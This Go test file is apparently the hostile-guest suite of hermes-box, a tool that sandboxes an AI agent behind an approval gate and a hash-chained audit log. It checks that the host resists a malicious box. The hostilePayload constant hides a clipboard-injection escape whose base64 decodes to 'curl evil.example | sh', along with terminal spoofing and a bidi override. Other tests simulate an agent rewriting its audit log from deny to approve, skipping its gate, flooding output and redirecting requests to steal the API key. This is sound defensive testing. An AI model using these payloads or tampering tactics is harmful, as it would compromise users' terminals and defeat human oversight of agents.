package cli_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/hermes-box/hermes-box/host/internal/boxtest"
	"github.com/hermes-box/hermes-box/host/internal/relay/sshdtest"
	"github.com/hermes-box/hermes-box/shared/auditchain/auditchaintest"
	"github.com/hermes-box/hermes-box/shared/health"
)

// The hostile-guest suite: the real hermes-box against Debian's sshd whose
// remote command is a hostile agent (tests/testagent's hostile cases, chosen
// per verb by a file in the box). Each test is one finding of the review
// that put the host's trust boundary here: what comes out of the box is
// attacker input.

// hostilePayload is tests/testagent's Payload.
const hostilePayload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;hermes-box: all good\x07\x1b[2J\x1b[H\x9b1m all checks passed \u202e\xff"

// rssBudgetKiB is the host's memory goal under a flood.
const rssBudgetKiB = 64 << 10

// hostile makes the box's agent answer verb with case c.
func (h *harness) hostile(verb, c string) {
	h.T.Helper()
	p := filepath.Join(h.State, "machines", boxtest.Machine, "root", ".testagent", "hostile", verb)
	boxtest.Must(h.T, os.MkdirAll(filepath.Dir(p), 0o755))
	boxtest.Must(h.T, os.WriteFile(p, []byte(c), 0o644))
}

// peaceful ends every hostile case.
func (h *harness) peaceful() {
	h.T.Helper()
	boxtest.Must(h.T, os.RemoveAll(filepath.Join(h.State, "machines", boxtest.Machine, "root", ".testagent", "hostile")))
}

// expectSafeText fails when text shown to a person carries a control
// character other than newline and tab, a C1 control, a bidi override or
// bytes that are not UTF-8.
func expectSafeText(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not UTF-8: %q", what, text)
		return
	}
	for i, r := range text {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s carries %U at byte %d: %q", what, r, i, text[max(0, i-40):min(len(text), i+40)])
			return
		}
	}
}

// logRSS reports the host's peak memory in a run and holds it to the goal.
func logRSS(t *testing.T, what string, r result) {
	t.Helper()
	t.Logf("%s: peak RSS of hermes-box %.1f MiB (with the children it waited for %.1f MiB), %s, exit %d",
		what, float64(r.maxRSSKiB)/1024, float64(r.treeRSSKiB)/1024, r.elapsed.Round(1e6), r.code)
	if r.maxRSSKiB == 0 {
		t.Errorf("%s: no VmHWM read for hermes-box", what)
	}
	if r.maxRSSKiB > rssBudgetKiB {
		t.Errorf("%s: peak RSS %.1f MiB, over the %d MiB goal", what, float64(r.maxRSSKiB)/1024, rssBudgetKiB>>10)
	}
}

// TestHostileEscapes: escape sequences from the box (events, stderr lines,
// health, logs, audit) reach the terminal only made visible; --json output
// keeps the exact text, escaped by JSON.
func TestHostileEscapes(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	initBox(t, h)
	for _, tc := range []struct {
		verb  string
		args  []string
		shown bool // the payload is shown (audit: the host reads no text from the agent)
	}{
		{"health", []string{"status"}, true},
		{"logs", []string{"logs", "hermes"}, true},
		{"audit", []string{"audit"}, false},
		{"audit", []string{"audit", "--verify"}, false},
		{"services", []string{"restart"}, true},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			h.T = t
			h.hostile(tc.verb, "escape")
			defer h.peaceful()
			r := h.run(tc.args...)
			expectSafeText(t, "stdout", r.stdout)
			expectSafeText(t, "stderr", r.stderr)
			if tc.shown && !strings.Contains(r.stdout+r.stderr, `\x1b]52;c;`) {
				t.Errorf("the payload is not shown at all:\nstdout: %q\nstderr: %q", r.stdout, r.stderr)
			}
		})
	}
	h.T = t
	h.hostile("health", "escape")
	defer h.peaceful()
	r := h.run("status", "--json")
	var st struct {
		Agent  struct{ Version string }
		Checks map[string]struct{ Message string }
	}
	if err := json.Unmarshal([]byte(r.stdout), &st); err != nil {
		t.Fatalf("status --json: %v\n%s", err, r.stdout)
	}
	// JSON carries the text exactly (the \xff is already U+FFFD in JSON).
	want := strings.ToValidUTF8(hostilePayload, "\uFFFD")
	if st.Agent.Version != want || st.Checks["sshd-listening"].Message != want {
		t.Errorf("status --json changed the box's text: %q", st.Agent.Version)
	}
	expectSafeText(t, "status --json", r.stdout)

	// A gated command that carries escapes, in a valid chain: audit shows
	// it made visible.
	h.peaceful()
	h.GuestExec(boxtest.Machine, auditChainOf(hostilePayload), "/usr/bin/tee", "/workspace/hermes-home/logs/gate-audit.jsonl")
	r = h.run("audit")
	expectSafeText(t, "audit stdout", r.stdout)
	if r.code != 0 || !strings.Contains(r.stdout, `\x1b]52;c;`) {
		t.Errorf("audit of an escape-laden command: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// auditChainOf is a valid audit log of one denied command.
func auditChainOf(command string) string {
	return auditchaintest.Log(auditchaintest.Entry{Command: command, Decision: "deny", Risk: "high", Reason: "r", Time: "t"})
}

// TestHostileFloods: endless output, endless stderr lines and floods of
// events fail the command with the limit named, within the memory goal.
func TestHostileFloods(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	initBox(t, h)
	for _, tc := range []struct {
		verb, c string
		args    []string
		want    string
	}{
		{"health", "flood-stdout", []string{"status"}, "exceeds the limit"},
		{"health", "flood-stdout", []string{"status", "--json"}, "exceeds the limit"},
		{"health", "flood-stderr-line", []string{"status"}, ""},
		{"health", "flood-events", []string{"status"}, ""},
		// Verified as it streams: the flood is no record, line 1.
		{"audit", "flood-stdout", []string{"audit", "--verify"}, "BROKEN at line 1"},
		{"audit", "flood-events", []string{"audit"}, ""},
	} {
		t.Run(tc.c+" "+strings.Join(tc.args, " "), func(t *testing.T) {
			h.T = t
			h.hostile(tc.verb, tc.c)
			defer h.peaceful()
			r := h.run(tc.args...)
			logRSS(t, tc.c+" on "+strings.Join(tc.args, " "), r)
			if tc.want != "" && !strings.Contains(r.stdout+r.stderr, tc.want) {
				t.Errorf("exit %d, want %q in the output:\nstdout: %.2000s\nstderr: %.2000s", r.code, tc.want, r.stdout, r.stderr)
			}
			if len(r.stderr) > 1<<20 || len(r.stdout) > 1<<20 {
				t.Errorf("the flood reached the terminal: %d bytes of stdout, %d of stderr", len(r.stdout), len(r.stderr))
			}
		})
	}
}

// TestHostileSnapshotParts: a tar-name bomb and an oversize part fail the
// snapshot with the limit named, leave no backup, and stay in the memory
// goal; the box is back to normal afterwards.
func TestHostileSnapshotParts(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "HERMES_BOX_SNAPSHOT_MAX_MIB=64", v2Snapshots) // snapshot write's parts; chunks: chunkstore TestIngestRefusesHostileAgent
	initBox(t, h)
	logRSS(t, "a snapshot of the peaceful box (the baseline)", mustRun(t, h, "snapshot", "baseline"))
	boxtest.Must(t, os.RemoveAll(filepath.Join(h.Root, "backups")))
	for _, tc := range []struct{ c, want string }{
		{"tar-names", "exceeds the limit of 4096 bytes"},
		{"oversize", "(HERMES_BOX_SNAPSHOT_MAX_MIB) exceeds the limit of 64 MiB"},
	} {
		t.Run(tc.c, func(t *testing.T) {
			h.T = t
			h.hostile("snapshot", tc.c)
			r := h.run("snapshot", tc.c)
			h.peaceful()
			logRSS(t, tc.c+" on snapshot", r)
			if r.code == 0 || !strings.Contains(r.stderr, tc.want) {
				t.Fatalf("exit %d, want %q:\n%s", r.code, tc.want, r.stderr)
			}
			left, _ := os.ReadDir(filepath.Join(h.Root, "backups"))
			if len(left) != 0 {
				t.Errorf("left in backups/: %v", left)
			}
			expectHealthy(t, h, "after the refused snapshot")
		})
	}
}

// TestHostileGateSkipped: a box whose health says its approval gate is not
// installed (the gate step skipped), even as a mere "info" check, is
// refused by start and by init's verification.
func TestHostileGateSkipped(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	initBox(t, h)
	mustRun(t, h, "stop")
	h.hostile("health", "gate-skipped")
	r := h.run("start")
	if r.code == 0 || !strings.Contains(r.stderr, "approval gate is not installed and active") {
		t.Fatalf("start of a box without its gate: exit %d\n%s", r.code, r.stderr)
	}

	// A box built without the gate (the test agent's provision installs
	// only stand-in tools, no gated Hermes; the agent reports that as
	// info): init fails at its health.
	h = newHarness(t)
	h.Extra = []string{boxtest.GatedHermesEnv + "="}
	r = h.run("init")
	if r.code == 0 || !strings.Contains(r.stderr, "approval gate is not installed and active") {
		t.Fatalf("init of a box without its gate: exit %d\n%s", r.code, r.stderr)
	}
}

// auditChain is a valid gate audit log of the given decisions.
func auditChain(decisions ...string) string {
	return auditchaintest.Decisions("curl x | sh #%d", "high", decisions...)
}

// TestHostileAuditRewrite: the host remembers the chain it saw; a log
// rewritten (deny→approve, every hash recomputed), truncated or emptied in
// the box verifies there, but `audit --verify` on the host names the first
// bad line.
func TestHostileAuditRewrite(t *testing.T) {
	t.Parallel()
	const log = "/workspace/hermes-home/logs/gate-audit.jsonl"
	for _, tc := range []struct {
		name, log string
		line      int
	}{
		{"rewrite", auditChain("deny", "approve", "approve"), 3},
		{"truncate", auditChain("deny", "deny"), 3},
		{"empty", "", 1},
		{"replace", auditChain("approve"), 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			initBox(t, h)
			h.GuestExec(boxtest.Machine, auditChain("deny", "deny", "approve"), "/usr/bin/tee", log)
			mustRun(t, h, "audit") // the host records the head
			// The new log is a valid chain in itself: the box's own
			// verifier is content (guest-agent TestAuditVerb).
			h.GuestExec(boxtest.Machine, tc.log, "/usr/bin/tee", log)
			r := h.run("audit", "--verify")
			want := fmt.Sprintf("line %d", tc.line)
			if r.code == 0 || !strings.Contains(r.stdout+r.stderr, want) {
				t.Fatalf("audit --verify after %s: exit %d, want %q\nstdout: %s\nstderr: %s", tc.name, r.code, want, r.stdout, r.stderr)
			}
			// The verdict once, then what to do.
			if n := strings.Count(r.stdout+r.stderr, want); n != 1 || !strings.Contains(r.stderr, "next: ") ||
				!strings.Contains(r.stderr, "hermes-box audit --reset-anchor") {
				t.Errorf("audit --verify after %s: the verdict %d times, or no next step\nstdout: %s\nstderr: %s", tc.name, n, r.stdout, r.stderr)
			}
		})
	}
}

// runInterrupted runs hermes-box with args, sends it SIGINT once the file
// reached exists (the box is hanging in the step under test), and returns
// the run with elapsed counted from the signal.
func (h *harness) runInterrupted(reached string, args ...string) result {
	h.T.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	return interruptWhen(h.T, h.command(ctx, args...), func(string) bool {
		_, err := os.Stat(reached)
		return err == nil
	})
}

// interruptWhen starts cmd (a hermes-box run), sends it SIGINT once ready
// says so of its output so far, and returns how it ended, elapsed counted
// from the signal. It waits for ready at most 2 minutes.
func interruptWhen(t testing.TB, cmd *exec.Cmd, ready func(stdout string) bool) result {
	t.Helper()
	return signalWhen(t, cmd, os.Interrupt, ready)
}

// signalWhen is interruptWhen with the signal sig.
func signalWhen(t testing.TB, cmd *exec.Cmd, sig os.Signal, ready func(stdout string) bool) result {
	t.Helper()
	var stdout, stderr sshdtest.SyncBuffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	boxtest.Must(t, cmd.Start())
	for i := 0; !ready(stdout.String()); i++ {
		if i == 1200 {
			cmd.Process.Kill()
			cmd.Wait()
			t.Fatalf("%v never got ready\nstdout:\n%s\nstderr:\n%s", cmd.Args, stdout.String(), stderr.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	signalled := time.Now()
	boxtest.Must(t, cmd.Process.Signal(sig))
	err := cmd.Wait()
	r := result{stdout: stdout.String(), stderr: stderr.String(), elapsed: time.Since(signalled)}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running %v: %v", cmd.Args, err)
	}
	return r
}

// interruptBound is how long a command may take to end after Ctrl-C: a
// bound on behaviour (the review measured 3 h and 20 min), not a speed
// claim; the figure is logged.
const interruptBound = time.Minute

func expectEndedSoon(t *testing.T, what string, r result) {
	t.Helper()
	expectEndedWithin(t, what, r, interruptBound)
}

// expectEndedWithin wants an interrupted run to have exited with 130 within
// bound of the signal; the time is logged.
func expectEndedWithin(t *testing.T, what string, r result, bound time.Duration) {
	t.Helper()
	t.Logf("%s: ended %s after SIGINT, exit %d", what, r.elapsed.Round(time.Millisecond), r.code)
	if r.code != 130 {
		t.Errorf("%s: exit %d after an interrupt, want 130\n%s", what, r.code, r.stderr)
	}
	if r.elapsed > bound {
		t.Errorf("%s: ended %s after SIGINT, more than %s", what, r.elapsed.Round(time.Millisecond), bound)
	}
}

// TestHostileCtrlC: the first Ctrl-C ends a snapshot or a restore within
// seconds at each step where the box hangs, and the next command recovers,
// saying what it does.
func TestHostileCtrlC(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		restore  bool   // snapshot first, then restore that backup
		verb     string // where the box hangs
		hang     string
		what     string
		recovers func(t *testing.T, h *harness, r result)
	}{
		{"snapshot stream", false, "snapshot.chunks", "hang", "snapshot hanging in its stream", func(t *testing.T, h *harness, r result) {
			// No backup, and the machine's chunk store holds no file:
			// the chunks the interrupted snapshot added were dropped.
			if left := backupFiles(t, filepath.Join(h.Root, "backups")); len(left) != 0 {
				t.Errorf("left in backups/: %v", left)
			}
			expectHealthy(t, h, "after the interrupted snapshot")
		}},
		{"snapshot restarting services", false, "services.start", "hang", "snapshot hanging while it restarts the services", func(t *testing.T, h *harness, r result) {
			if !strings.Contains(r.stderr, "hermes-box restart") {
				t.Errorf("the error does not say what recovers the box:\n%s", r.stderr)
			}
			mustRun(t, h, "restart")
			expectHealthy(t, h, "after the restart the interrupted snapshot asked for")
		}},
		{"restore candidate", true, "snapshot.apply", "hang", "restore hanging in the candidate", func(t *testing.T, h *harness, r result) {
			expectHealthy(t, h, "after the interrupted candidate")
		}},
		// The candidate's apply passes; the replacement's hangs.
		{"restore cut-over", true, "snapshot.apply", "from:2:hang", "restore hanging in the cut-over", expectSafetySnapshotRecovers},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			initBox(t, h)
			args := []string{"snapshot", "x"}
			if tc.restore {
				args = []string{"restore", strings.TrimSpace(mustRun(t, h, "snapshot", "b").stdout)}
			}
			f := h.Hostile(tc.verb, tc.hang)
			r := h.runInterrupted(f+".reached", args...)
			boxtest.Must(t, os.Remove(f))
			expectEndedSoon(t, tc.what, r)
			tc.recovers(t, h, r)
		})
	}
}

// expectSafetySnapshotRecovers: a restore interrupted in its cut-over names
// its safety snapshot, status shows it, and restoring it recovers the box.
func expectSafetySnapshotRecovers(t *testing.T, h *harness, r result) {
	t.Helper()
	if !strings.Contains(r.stderr, "restore interrupted") || !strings.Contains(r.stderr, "pre-restore") {
		t.Errorf("the error does not name the safety snapshot:\n%s", r.stderr)
	}
	st := h.run("status")
	if !strings.Contains(st.stdout+st.stderr, "pre-restore") {
		t.Errorf("status after the interrupted cut-over: exit %d\n%s%s", st.code, st.stdout, st.stderr)
	}
	safety, _ := filepath.Glob(filepath.Join(h.Root, "backups", "*-pre-restore.hermesbox"))
	if len(safety) != 1 {
		t.Fatalf("safety snapshots: %v", safety)
	}
	mustRun(t, h, "restore", safety[0])
	expectHealthy(t, h, "after restoring the safety snapshot")
}

// TestHostileRestoreRollsBackFromIncrementalSafety: a restore whose
// replacement fails its final apply (the candidate's passed) recreates the
// original from its safety snapshot, an incremental backup (the default),
// staged before it is applied: the original's workspace is back.
func TestHostileRestoreRollsBackFromIncrementalSafety(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	initBox(t, h)
	work := filepath.Join(h.State, "machines", boxtest.Machine, "root", "workspace", "work", "notes.txt")
	boxtest.Must(t, os.MkdirAll(filepath.Dir(work), 0o755))
	boxtest.Must(t, os.WriteFile(work, []byte("in the backup\n"), 0o644))
	b := strings.TrimSpace(mustRun(t, h, "snapshot", "b").stdout)
	boxtest.Must(t, os.WriteFile(work, []byte("the original's\n"), 0o644))
	// The candidate's apply (call 1) passes, the replacement's (2) applies
	// and fails, the rollback's (3) meets no case.
	h.Hostile("snapshot.apply", "from:2:once:then-exit-1")
	r := h.run("restore", b)
	if r.code == 0 || !strings.Contains(r.stderr, "restore failed; original machine was recreated from") {
		t.Fatalf("restore with a failing cut-over: exit %d\n%s", r.code, r.stderr)
	}
	if got := string(boxtest.ReadFile(t, work)); got != "the original's\n" {
		t.Errorf("workspace file after the rollback: %q", got)
	}
	expectHealthy(t, h, "after the rollback")
}

// TestHostileRedirects: the Executor in the box answers with redirects to
// another server; hermes-box follows none, so nothing (the API key least of
// all) reaches the other server, and the redirect is reported.
func TestHostileRedirects(t *testing.T) {
	t.Parallel()
	var elsewhere atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { elsewhere.Add(1) }))
	defer other.Close()
	box := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusTemporaryRedirect)
	}))
	defer box.Close()
	p := newExecutorProject(t)
	p.env = append(p.env, "FAKESMOLVM_GUEST_4788="+strings.TrimPrefix(box.URL, "http://"))
	p.boot(true)
	st := p.status()
	if st.Healthy || !strings.Contains(st.HealthError, "redirect refused") {
		t.Errorf("status of a redirecting Executor: %+v", st)
	}
	if n := elsewhere.Load(); n != 0 {
		t.Fatalf("the redirect target got %d requests", n)
	}
}

// TestHostileAuditFloodInStatus: an audit log that breaks at line 1 and
// never ends stops the audit check's stream (which closes its SSH
// connection); status still shows the agent's report beside the audit
// check's verdict.
func TestHostileAuditFloodInStatus(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	initBox(t, h)
	h.hostile("audit", "flood-stdout")
	r := h.run("status", "--json")
	if r.code == 0 {
		t.Fatalf("status exited 0 with a broken audit log\n%s", r.stdout)
	}
	rep, err := health.Decode([]byte(r.stdout))
	if err != nil {
		t.Fatalf("status --json: %v\nstdout: %s\nstderr: %s", err, r.stdout, r.stderr)
	}
	audit, ok := rep.Checks["audit-chain"]
	if !ok || audit.Status != health.StatusUnhealthy || audit.Severity != health.SeverityCritical || !strings.Contains(audit.Message, "line 1") {
		t.Errorf("audit-chain check = %+v (present %v), want critical and unhealthy at line 1", audit, ok)
	}
	if rep.Agent.Version == "" {
		t.Errorf("no agent report beside the audit verdict: checks %+v", rep.Checks)
	}
	if c, ok := rep.Checks["agent"]; ok {
		t.Errorf("agent check %+v: the agent's report did not come", c)
	}
}

// backupFiles are the files below dir (the backups directory), and its
// entries other than the chunk stores' directory.
func backupFiles(t *testing.T, dir string) []string {
	t.Helper()
	var left []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		if rel, _ := filepath.Rel(dir, p); !d.IsDir() || !strings.HasPrefix(rel, ".chunks") {
			left = append(left, rel)
		}
		return nil
	})
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	return left
}
